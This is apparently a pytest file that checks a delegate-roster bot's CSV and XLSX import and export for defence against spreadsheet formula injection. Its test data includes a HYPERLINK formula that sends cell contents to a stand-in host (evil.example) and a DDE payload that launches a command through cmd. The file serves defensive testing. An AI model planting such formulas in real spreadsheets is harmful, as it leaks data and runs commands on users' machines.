"""Formula injection: what the bot writes runs nothing in a spreadsheet, and reading a file
never strips a value into a formula.

A roster whose names and units are formulas (a live hyperlink, DDE, arithmetic) is imported
through `delegate-bot roster import`, then exported with `roster export` as .xlsx and .csv:
the .xlsx holds string cells only (no ``<f>`` element, no formula type), the .csv quotes
every field and puts a single quote before every value a spreadsheet would run, and both
import back to the same roster. A phone number in E.164 stays readable as it is.
"""

from __future__ import annotations

import asyncio
import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from bot.app import App
from bot.cli import main
from bot.formats.export import csv_bytes, is_formula_like, neutralise, restore, xlsx_bytes
from bot.tabular import clean_cell, read_table_bytes
from storage import delegates

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
DDE = "=cmd|' /C calc'!A0"
HOSTILE = [HYPERLINK, "+SUM(1,2)", "-2+3", "@SUM(1)", DDE, "\t=1+1", "\r=1+1", "\n@SUM(1)"]
HEADER = ["Mã đại biểu", "Họ và tên", "Đơn vị", "Đoàn", "Số điện thoại"]


def roster_csv() -> bytes:
    """Return a roster (CSV, quoted as Excel quotes) whose names and units are formulas."""
    rows = [HEADER]
    for number, text in enumerate(HOSTILE, start=1):
        rows.append([f"DB{number:03d}", text, text, "Đoàn 1", ""])
    rows.append(["DB100", "Trần Thị Hà", "-", "@", "+84 912 345 678"])
    out = io.StringIO()
    csv.writer(out, delimiter=";", lineterminator="\r\n").writerows(rows)
    return out.getvalue().encode()



async def cli(config_path: Path, *args: str) -> int:
    """Run `delegate-bot --config FILE ARGS...` in-process; return its exit status."""
    return await asyncio.to_thread(main, ["--config", str(config_path), *args])


async def names_and_units(app: App) -> dict[str, tuple[str, str]]:
    """Return every delegate's name and unit, by code."""
    return {d.code: (d.full_name, d.unit) for d in await delegates.all_delegates(app.services.db)}


async def test_exports_of_a_formula_roster_hold_text_only_and_import_back_unchanged(
    app: App, cli_config: Path, tmp_path: Path
) -> None:
    source = tmp_path / "ds.csv"
    source.write_bytes(roster_csv())
    assert await cli(cli_config, "roster", "import", str(source)) == 0
    stored = await names_and_units(app)
    # A tab or line break before the sign is kept, never stripped into a formula.
    assert [stored[f"DB{n:03d}"][0] for n in range(1, len(HOSTILE) + 1)] == HOSTILE
    xlsx_out, csv_out = tmp_path / "out.xlsx", tmp_path / "out.csv"
    for target in (xlsx_out, csv_out):
        assert await cli(cli_config, "roster", "export", str(target)) == 0

    with zipfile.ZipFile(xlsx_out) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    assert set(re.findall(r'<c [^>]*?t="(\w+)"', sheet_xml)) == {"inlineStr"}
    assert len(re.findall(r"<c ", sheet_xml)) == len(re.findall(r'<c [^>]*?t="', sheet_xml))
    book = load_workbook(xlsx_out)  # the full reader: cell types and styles
    cells = [cell for row in book.worksheets[0].iter_rows() for cell in row
             if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s"}
    names = {row[0].value: row[1] for row in book.worksheets[0].iter_rows(min_row=2)}
    assert names["DB001"].value == HYPERLINK and names["DB001"].quotePrefix
    assert names["DB100"].value == "Trần Thị Hà" and not names["DB100"].quotePrefix

    text = csv_out.read_bytes().decode("utf-8-sig")
    fields = [field for row in csv.reader(io.StringIO(text), delimiter=";") for field in row]
    assert all(not field.startswith(("=", "+", "-", "@", "\t", "\r", "\n")) or field in (
        "+84912345678", "-", "@") for field in fields)
    assert "'" + HYPERLINK in fields and "'" + DDE in fields and "'\t=1+1" in fields
    assert "+84912345678" in fields  # the phone, readable as it is
    first_line = text.splitlines()[0]
    assert first_line.startswith('"') and first_line.count('"') == 2 * len(first_line.split(";"))

    # Each export imports back to the same roster (XML reads a carriage return as a line feed).
    as_xml = {code: (name.replace("\r", "\n"), unit.replace("\r", "\n"))
              for code, (name, unit) in stored.items()}
    for target, expected in ((xlsx_out, as_xml), (csv_out, stored)):
        assert await cli(cli_config, "roster", "import", str(target)) == 0
        assert await names_and_units(app) == expected


@pytest.mark.parametrize("value", [*HOSTILE, "=", "-", "+", "@", "=1", "-5", "+1-2"])
def test_every_value_a_spreadsheet_would_run_is_neutralised_in_csv(value: str) -> None:
    written = neutralise(value)
    assert written == value if len(value) == 1 else written == "'" + value
    assert restore(written) == value
    (row,) = csv.reader(io.StringIO(csv_bytes([[value]]).decode("utf-8-sig")), delimiter=";")
    assert row == [written]


@pytest.mark.parametrize("value", ["+84912345678", "+12025550123", "Trần Thị Hà", "'quoted",
                                   "", "DB001", "a=b", " =x"])
def test_phone_numbers_and_plain_text_are_written_as_they_are(value: str) -> None:
    assert not is_formula_like(value)
    assert neutralise(value) == value == restore(value)


@pytest.mark.parametrize("value", ["+84 912 345 678", "+84912345678;1", "+8491234567890123"])
def test_only_a_bare_e164_number_passes_as_a_phone(value: str) -> None:
    assert neutralise(value) == "'" + value


def test_xlsx_cells_are_strings_and_unwritable_characters_do_not_stop_the_export() -> None:
    data = xlsx_bytes([["Mã", "Tên"], ["DB1", "A\x00B\x1fC"], ["DB2", "=1+1"]], "Đại biểu")
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    assert sheet.title == "Đại biểu"
    assert [[c.value for c in row] for row in sheet.iter_rows()] == [
        ["Mã", "Tên"], ["DB1", "A\ufffdB\ufffdC"], ["DB2", "=1+1"]]
    assert sheet["B3"].data_type == "s" and sheet["B3"].quotePrefix


@pytest.mark.parametrize(
    ("raw", "kept"),
    [("\t=SUM(A1)", "\t=SUM(A1)"), (" \r+1 ", " \r+1"), ("\n@x", "\n@x"),
     ("  =SUM(A1)  ", "=SUM(A1)"), ("\t+84912345678", "+84912345678"), ("\tTên\t", "Tên"),
     ("\t=", "=")],
)
def test_reading_never_strips_a_tab_or_line_break_into_a_formula(raw: str, kept: str) -> None:
    assert clean_cell(raw) == kept
    data = ("a;b\r\n" + f'"{raw}";x\r\n').encode()
    assert read_table_bytes(data, "t.csv").rows[1].cells == [kept, "x"]


def test_reading_a_csv_export_back_drops_the_quote_it_added_and_no_other() -> None:
    data = csv_bytes([["a", "b"], ["=1+1", "'quoted"], ["'x", "+84912345678"]])
    rows = read_table_bytes(data, "t.csv").rows
    assert [row.cells for row in rows] == [["a", "b"], ["=1+1", "'quoted"], ["'x", "+84912345678"]]
